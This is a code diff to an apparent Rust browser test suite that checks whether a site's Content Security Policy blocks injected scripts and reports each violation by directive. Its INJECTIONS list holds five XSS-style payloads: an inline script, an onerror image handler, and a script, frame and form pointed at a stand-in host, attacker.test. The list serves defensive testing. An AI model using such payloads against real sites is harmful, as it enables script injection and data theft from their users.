@@ -11,48 +11,74 @@ pub(super) async fn arrive(stage: Stage) -> Shown {
     let person = stage.stranger().await?;
     let tab = person.tab().await?;
     stage.sign_in(&tab).await?;
-    for (place, script) in INJECTIONS {
+    for (place, directive, script) in INJECTIONS {
         tab.go(&stage.site.at("/counter")).await?;
-        tab.run(script).await?;
+        let stopped = tab.run(&watched(script)).await?;
         let ran = tab.run("window.injectedRan === true").await?;
         promise("injected script does not run", ran.as_bool() == Some(false), || format!("{place} did"))?;
+        promise("the page's policy stops it", stopped.as_str() == Some(directive), || {
+            format!("{place} was stopped by {stopped}, not by {directive}")
+        })?;
     }
-    let told = until("the reports to arrive", || reported(&stage, &tab)).await;
-    let told = match told {
-        Err(Failure::DevTools(_)) => {
-            Err(Failure::Broken { promise: "violations are reported", seen: "no event came of them".to_owned() })
-        }
-        told => told,
-    }?;
+    let all = || async {
+        let told = reported(&stage, &tab).await?;
+        Ok((told.len() == DIRECTIVES.len()).then_some(told))
+    };
+    let Ok(told) = until("the reports to arrive", all).await else {
+        let told = reported(&stage, &tab).await?;
+        return Err(Failure::Broken {
+            promise: "violations are reported",
+            seen: format!("events came of {told:?} only"),
+        });
+    };
     person.leave().await?;
     Ok(format!("{} ways in ran nothing; told: {}", INJECTIONS.len(), told.join(", ")))
 }
 
-/// The directives named in the owner's events, once all that were broken are.
-async fn reported(stage: &Stage, tab: &Tab) -> Result<Option<Vec<&'static str>>, Failure> {
-    tab.go(&stage.site.at("/events")).await?;
-    let text = tab.text().await?;
-    let told: Vec<_> = DIRECTIVES.into_iter().filter(|directive| text.contains(&format!("by {directive})"))).collect();
-    Ok((told.len() == DIRECTIVES.len()).then_some(told))
+/// Runs a script and waits until the page's policy has stopped something: a page left before that reports nothing, as
+/// the browser sends a form only after the script that submits it. The directive that did, or "nothing" after a while.
+fn watched(script: &str) -> String {
+    format!(
+        "new Promise(done => {{
+            document.addEventListener('securitypolicyviolation', seen => done(seen.effectiveDirective));
+            setTimeout(() => done('nothing'), 10000);
+            {script};
+        }})"
+    )
 }
 
-/// What an escaping mistake would let in, put there by hand.
-const INJECTIONS: [(&str, &str); 5] = [
+/// The directives named in the owner's events, of those that were broken.
+async fn reported(stage: &Stage, tab: &Tab) -> Result<Vec<&'static str>, Failure> {
+    tab.go(&stage.site.at("/events")).await?;
+    let text = tab.text().await?;
+    Ok(DIRECTIVES.into_iter().filter(|directive| text.contains(&format!("by {directive})"))).collect())
+}
+
+/// What an escaping mistake would let in, put there by hand: its name, what stops it, and how.
+const INJECTIONS: [(&str, &str, &str); 5] = [
     (
         "an inline script",
+        "script-src-elem",
         "{ const s = document.createElement('script'); s.textContent = 'window.injectedRan = true'; document.body.append(s); }",
     ),
     (
         "an event handler",
+        "script-src-attr",
         "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.injectedRan=true>')",
     ),
     (
         "a script of another site",
-        "new Promise(done => { const s = document.createElement('script'); s.onload = s.onerror = done; s.src = 'https://attacker.test/x.js'; document.body.append(s); }).then(() => 0)",
+        "script-src-elem",
+        "{ const s = document.createElement('script'); s.src = 'https://attacker.test/x.js'; document.body.append(s); }",
     ),
-    ("a frame", "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://attacker.test/\"></iframe>')"),
+    (
+        "a frame",
+        "frame-src",
+        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://attacker.test/\"></iframe>')",
+    ),
     (
         "a form to elsewhere",
+        "form-action",
         "{ const f = document.createElement('form'); f.action = 'https://attacker.test/take'; document.body.append(f); f.submit(); }",
     ),
 ];
